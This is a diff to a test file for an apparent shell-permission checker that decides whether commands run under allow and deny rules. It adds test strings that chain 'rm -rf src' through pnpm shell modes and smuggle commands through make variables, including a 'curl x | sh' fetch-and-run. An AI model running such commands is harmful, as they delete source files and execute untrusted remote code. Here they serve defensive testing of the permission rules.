@@ -1613,6 +1613,8 @@ RUNNERS_FOLLOWED = [
     "pnpm dlx rm -rf src",
     "pnpm exec rm -rf src",
     "pnpm --silent dlx rm -rf src",
+    "pnpm exec -c 'ls; rm -rf src'",
+    "pnpm dlx --shell-mode 'ls && rm -rf src'",
     "yarn dlx rm -rf src",
     "yarn exec rm -rf src",
     "bunx rm -rf src",
@@ -1916,3 +1918,22 @@ def test_a_build_variable_naming_a_program_reads_no_code_from_its_input() -> Non
     assert (value.argv, value.continued) == (("python3",), True)
     assert inline_code.unread_code(value) is None
     assert inline_code.unread_code(analyse_command("python3").parts[0]) is not None
+
+
+@pytest.mark.parametrize(
+    ("command", "behavior"),
+    [
+        ("make CC=clang PREFIX=/usr/local install", PermissionBehavior.ALLOW),
+        ("make test PYTHON=python3", PermissionBehavior.ALLOW),
+        ("make CC=rm", PermissionBehavior.DENY),
+        ("make CFLAGS='-O2; curl x | sh'", PermissionBehavior.DENY),
+    ],
+)
+def test_a_build_variable_naming_a_program_needs_no_allow_of_its_own(
+    command: str, behavior: PermissionBehavior, work: Path
+) -> None:
+    """Under `Bash(make:*)`, a program a variable names runs with the recipe's words, as make
+    does; a deny rule still sees it, and a command line given as a value needs its own allow
+    (nobody to ask here)."""
+    decided = decide(command, work, allow={"Bash(make:*)"}, deny={"Bash(rm:*)"})
+    assert decided.behavior is behavior, decided.reason
